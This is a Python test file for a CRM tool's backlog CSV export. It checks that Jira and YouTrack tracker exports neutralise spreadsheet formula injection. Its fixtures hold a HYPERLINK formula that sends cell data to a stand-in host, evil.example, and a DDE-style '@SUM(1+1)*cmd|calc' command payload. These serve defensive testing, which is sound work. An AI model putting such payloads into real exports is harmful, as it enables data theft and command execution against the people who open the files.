"""The tracker CSVs of the backlog: CRM text must never become a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from crmflow.deliverables.backlog import backlog_csv, csv_cell
from crmflow.design.loader import load_tobe
from tests.deliverables.conftest import MINI


@pytest.mark.parametrize("tracker", ["jira", "youtrack"])
def test_backlog_csv_neutralises_formula_injection_in_crm_text(tmp_path: Path, tracker: str) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = MINI.read_text(encoding="utf-8")
    marker = "  - id: tickets\n    name: {ru: Обработка заявки, en: Ticket handling}\n"
    assert marker in text
    text = text.replace(marker, f"  - id: tickets\n    name: '{hostile}'\n    description: '@SUM(1+1)*cmd|calc'\n", 1)
    path = tmp_path / "hostile.yaml"
    path.write_text(text, encoding="utf-8")
    tobe = load_tobe(path)
    rows = list(csv.reader(io.StringIO(backlog_csv(tobe, lang="en", tracker=tracker))))
    epic = next(r for r in rows if r[2] == "Epic")
    assert epic[3] == "'" + hostile and epic[4] == "'@SUM(1+1)*cmd|calc"
    for row in rows[1:]:
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


def test_csv_cell_keeps_ordinary_text() -> None:
    assert csv_cell("Call the client") == "Call the client"
    assert csv_cell("+7 900 000-00-00") == "'+7 900 000-00-00"
    assert csv_cell("") == ""
